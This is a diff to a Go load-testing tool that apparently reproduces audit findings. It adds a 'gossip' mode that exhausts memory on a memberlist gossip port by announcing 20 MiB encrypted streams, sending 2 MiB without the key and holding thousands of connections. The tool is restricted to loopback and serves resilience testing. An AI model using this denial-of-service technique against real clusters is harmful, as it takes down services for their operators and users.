@@ -9,6 +9,11 @@
 //	       -from source addresses, each sending one unauthenticated
 //	       GET /healthz and then holding the connection idle; one the node
 //	       closes is opened again, as an attacker would.
+//	gossip (finding 2) -conns connections to a gossip port, spread over
+//	       -sources addresses, each announcing a 20 MiB encrypted message
+//	       (memberlist reads a whole stream before it can check the key)
+//	       and sending 2 MiB of it, without the key, then holding the
+//	       connection; one the node closes is opened again.
 //
 // It prints what it managed (connections a second, connections held) as
 // one JSON object. Loopback only; bounded by -duration.
@@ -18,8 +23,10 @@ package main
 
 import (
 	"bufio"
+	"bytes"
 	"context"
 	"crypto/tls"
+	"encoding/binary"
 	"encoding/json"
 	"errors"
 	"flag"
@@ -57,12 +64,12 @@ type report struct {
 
 func run(args []string, out io.Writer) error {
 	fs := flag.NewFlagSet("flood", flag.ContinueOnError)
-	attack := fs.String("attack", "hello", "hello (ClientHello replay on a raft port) or idle (idle connections on an HTTP port)")
+	attack := fs.String("attack", "hello", "hello (ClientHello replay on a raft port), idle (idle connections on an HTTP port) or gossip (oversized streams on a gossip port)")
 	addr := fs.String("addr", "127.0.0.1:7071", "target host:port (loopback only)")
-	from := fs.String("from", "127.0.0.50", "first source address; idle uses -sources consecutive ones from it")
-	sources := fs.Int("sources", 1, "idle: source addresses to spread the connections over")
+	from := fs.String("from", "127.0.0.50", "first source address; idle and gossip use -sources consecutive ones from it")
+	sources := fs.Int("sources", 1, "idle, gossip: source addresses to spread the connections over")
 	rate := fs.Int("rate", 4000, "hello: connections a second")
-	conns := fs.Int("conns", 20000, "idle: connections to hold")
+	conns := fs.Int("conns", 20000, "idle, gossip: connections to hold")
 	duration := fs.Duration("duration", 20*time.Second, "how long the attack lasts (at most 5m)")
 	if err := fs.Parse(args); err != nil {
 		return err
@@ -85,9 +92,11 @@ func run(args []string, out io.Writer) error {
 	case "hello":
 		r, err = hello(ctx, target.String(), src, *rate)
 	case "idle":
-		r, err = idle(ctx, target.String(), src, *sources, *conns)
+		r, err = hold(ctx, target.String(), src, *sources, *conns, holdIdle)
+	case "gossip":
+		r, err = hold(ctx, target.String(), src, *sources, *conns, holdStream)
 	default:
-		return fmt.Errorf("-attack %q: hello or idle", *attack)
+		return fmt.Errorf("-attack %q: hello, idle or gossip", *attack)
 	}
 	if err != nil {
 		return err
@@ -172,7 +181,10 @@ loop:
 // idle holds conns connections to target, each after one GET /healthz,
 // spread over sources addresses from src; one the node closes is opened
 // again until ctx ends.
-func idle(ctx context.Context, target string, src netip.Addr, sources, conns int) (report, error) {
+// hold keeps conns connections to target open, spread over sources
+// addresses from src, each run by keep until the node closes it (then it
+// is opened again) or ctx ends.
+func hold(ctx context.Context, target string, src netip.Addr, sources, conns int, keep func(context.Context, net.Conn, *atomic.Int64)) (report, error) {
 	var dials, failed, held, most, closed atomic.Int64
 	var wg sync.WaitGroup
 	start := time.Now()
@@ -200,7 +212,7 @@ func idle(ctx context.Context, target string, src netip.Addr, sources, conns int
 				n := held.Add(1)
 				for m := most.Load(); n > m && !most.CompareAndSwap(m, n); m = most.Load() {
 				}
-				holdIdle(ctx, c, &closed)
+				keep(ctx, c, &closed)
 				held.Add(-1)
 			}
 		})
@@ -224,6 +236,36 @@ func holdIdle(ctx context.Context, c net.Conn, closed *atomic.Int64) {
 	// Read the answer and then wait: a read returns only when the node
 	// closes the connection (or ctx ends).
 	_, err := io.Copy(io.Discard, bufio.NewReader(c))
+	if ctx.Err() == nil && (err == nil || !errors.Is(err, os.ErrDeadlineExceeded)) {
+		closed.Add(1)
+	}
+}
+
+// streamHeader starts a memberlist stream that announces an encrypted
+// message of 20 MiB (its encryptMsg type and length): a node without
+// bounds buffers all of it before it can check the key.
+var streamHeader = binary.BigEndian.AppendUint32([]byte{10}, 20<<20)
+
+// streamJunk is what each connection sends of the announced message.
+var streamJunk = bytes.Repeat([]byte{0x5a}, 2<<20)
+
+// holdStream announces a 20 MiB message on c, sends 2 MiB of it and then
+// keeps c open until ctx ends or the node closes it (counted in closed).
+func holdStream(ctx context.Context, c net.Conn, closed *atomic.Int64) {
+	defer c.Close()
+	stop := context.AfterFunc(ctx, func() { _ = c.SetDeadline(time.Now()) })
+	defer stop()
+	_, err := c.Write(streamHeader)
+	if err == nil {
+		_, err = c.Write(streamJunk)
+	}
+	if err != nil {
+		if ctx.Err() == nil {
+			closed.Add(1)
+		}
+		return
+	}
+	_, err = io.Copy(io.Discard, c)
 	if ctx.Err() == nil && (err == nil || !errors.Is(err, os.ErrDeadlineExceeded)) {
 		closed.Add(1)
 	}
